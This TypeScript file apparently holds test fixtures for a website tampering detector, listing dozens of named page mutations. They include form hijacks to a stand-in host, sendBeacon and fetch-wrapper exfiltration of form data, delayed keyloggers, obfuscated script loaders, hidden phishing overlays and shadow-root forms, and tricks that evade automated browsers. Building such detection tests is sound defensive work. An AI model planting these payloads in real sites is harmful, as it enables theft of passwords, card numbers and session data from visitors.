import { type Change, type Changes, replaced } from './site.ts';

const inHead =
  (text: string): Change =>
  (site) => {
    site.shell = replaced(site.shell, '</head>', `${text}</head>`);
  };
const inPage =
  (text: string): Change =>
  (site) => {
    site.view = `${site.view}${text}`;
  };
const inScript =
  (text: string): Change =>
  (site) => {
    site.app = `${site.app}\n;${text}`;
  };
const withPolicy =
  (policy: string): Change =>
  (site) => {
    site.headers['content-security-policy'] = policy;
  };
const evilForm: Change = (site) => {
  site.view = replaced(site.view, /action="[^"]*"/, 'action="{evil}/login"');
};

/** What attackers do to a page. */
export const attacks: Changes = {
  'form to another host': evilForm,
  'button with another target': (site) => {
    site.view = replaced(site.view, '<button', '<button formaction="{evil}/x"');
  },
  'field for a card': (site) => {
    site.view = replaced(site.view, '<button', '<input name="card-number" placeholder="Card"><button');
  },
  'script of a new host': inHead('<script src="{evil}/a.js"></script>'),
  'beacon in the own script': inScript(
    'document.addEventListener("submit", () => navigator.sendBeacon("{evil}/b", document.forms[0].elements[1].value));',
  ),
  'dormant listener of keys': inScript(
    'function later() { document.addEventListener("keydown", (event) => { window.typed = (window.typed || "") + event.key; }); } setTimeout(later, 6e8);',
  ),
  'loader within the page': inHead('<script nonce="{nonce}">new Function(atob("d2luZG93LmEgPSAx"))()</script>'),
  'picture with code': inPage('<img width="1" height="1" src="/none.png" onerror="window.a = 1">'),
  socket: inScript('new WebSocket("{evilSocket}/s");'),
  'hidden frame': inPage('<iframe src="{evil}/f" style="display:none"></iframe>'),
  'refresh of the page': inHead('<meta http-equiv="refresh" content="30;url={evil}/">'),
  'base of addresses': inHead('<base href="{evil}/">'),
  'redirect of the whole page': (site) => {
    site.status = 302;
    site.headers.location = '{evil}/login';
  },
  'title and heading of an attacker': (site) => {
    site.shell = replaced(site.shell, /<title>[^<]*/, '<title>Hacked by nobody');
    site.view = replaced(site.view, /<h1>[^<]*/, '<h1>Hacked by nobody');
  },
  'overlay with a field for a password': inPage(
    '<div style="position:fixed;inset:0;background:#fff"><p>Session over</p><input type="password" name="again"></div>',
  ),
  'hidden links': inPage('<div style="position:absolute;left:-9999px"><a href="{evil}/pills">pills</a></div>'),
  'no policy': (site) => {
    delete site.headers['content-security-policy'];
  },
  'policy that allows all': withPolicy("default-src * 'unsafe-inline' 'unsafe-eval'"),
  'service worker': inScript('navigator.serviceWorker.register("/sw.js").catch(() => {});'),
  'download by itself': inScript(
    'const file = document.createElement("a"); file.href = URL.createObjectURL(new Blob(["x"])); file.download = "setup.exe"; file.click();',
  ),
  'style that reads fields': (site) => {
    site.css += ' input[name="csrf"][value^="a"] { background: url({evil}/a) }';
  },
  'another logo': (site) => {
    site.files['/logo.svg'] = {
      type: 'image/svg+xml',
      body: '<svg xmlns="http://www.w3.org/2000/svg"><text>other</text></svg>',
    };
  },
  'link with code': (site) => {
    site.view = replaced(site.view, 'href="/help"', 'href="javascript:window.a=1"');
  },
  'another telephone number': (site) => {
    site.view = replaced(site.view, '03-1234-5678', '03-9999-0000');
  },
  'shown on one of three loads': (site) => {
    const { view } = site;
    site.vary = (current, { count }) => {
      current.view = count % 3 === 1 ? replaced(view, /action="[^"]*"/, 'action="{evil}/login"') : view;
    };
  },
  'only for browsers of people': inScript(
    'if (!navigator.webdriver) { new Image().src = "{evil}/i?" + document.title; }',
  ),
  'only after the focus of a field': inScript(
    'document.querySelectorAll("input").forEach((field) => field.addEventListener("focus", () => { const s = document.createElement("script"); s.src = "{evil}/f.js"; document.head.append(s); }));',
  ),
  'icon with code': (site) => {
    site.files['/favicon.svg'] = {
      type: 'image/svg+xml',
      body: '<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>',
    };
  },
  'new tag in the container': (site) => {
    site.container +=
      ' const tag = document.createElement("script"); tag.src = "{evil}/tag.js"; setTimeout(() => document.head.append(tag), 6e8);';
  },
  'taken subdomain': (site) => {
    site.help =
      'setTimeout(() => { document.body.innerHTML = "<form><input type=password></form>"; document.forms[0].onsubmit = () => new Image().src = "//collect." + location.host; }, 6e8);';
  },
  'comment with code': inPage('<!--[if IE]><script src="{evil}/ie.js"></script><![endif]-->'),
  'cookie without its flags': (site) => {
    site.cookies = ['sid={token}; Path=/'];
  },
  'another start of the installed app': (site) => {
    site.files['/manifest.json'] = {
      type: 'application/manifest+json',
      body: '{"name":"Panel","start_url":"{evil}/"}',
    };
  },
  'another account at the statistics': (site) => {
    site.container = replaced(site.container, 'UA-123456-1', 'UA-987654-1');
  },
};

/** Attacks of other shapes: none of them was there when the rules were made. */
export const otherAttacks: Changes = {
  'refresh by a header': (site) => {
    site.headers.refresh = '600;url={evil}/';
  },
  'copy of what is sent, to an own path': inScript(
    'const send = window.fetch; window.fetch = (...all) => { send("/assets/track?" + btoa(String(all[1]?.body))); return send(...all); };',
  ),
  'names put together at run time': inScript(
    'setTimeout(() => { window["fe" + "tch"]("//" + ["ev", "il"].join("") + ".example"); }, 6e8);',
  ),
  'field that is no field': inPage('<div contenteditable="true" aria-label="Password"></div>'),
  'form in a closed shadow root': inScript(
    'document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }).innerHTML = "<form action={evil}/s><input type=password name=again></form>";',
  ),
  'animated link with code': inPage(
    '<svg width="90" height="20"><a><animate attributeName="href" values="javascript:window.a=1"/><text y="15">Continue</text></a></svg>',
  ),
  'pages that the browser loads ahead': inHead(
    '<script type="speculationrules" nonce="{nonce}">{"prefetch":[{"source":"list","urls":["{evil}/p"]}]}</script>',
  ),
  'another QR code': (site) => {
    site.files['/qr.svg'] = {
      type: 'image/svg+xml',
      body: '<svg xmlns="http://www.w3.org/2000/svg"><text>qr</text></svg>',
    };
  },
  'links in the colour of the page': inPage(
    '<p style="color:#fff;background:#fff">Read <a style="color:inherit" href="{evil}/casino">casino</a></p>',
  ),
  'listener by a property of the window': inScript(
    'setTimeout(() => { window.onkeydown = (event) => { window.k = (window.k || "") + event.key; }; }, 50);',
  ),
};
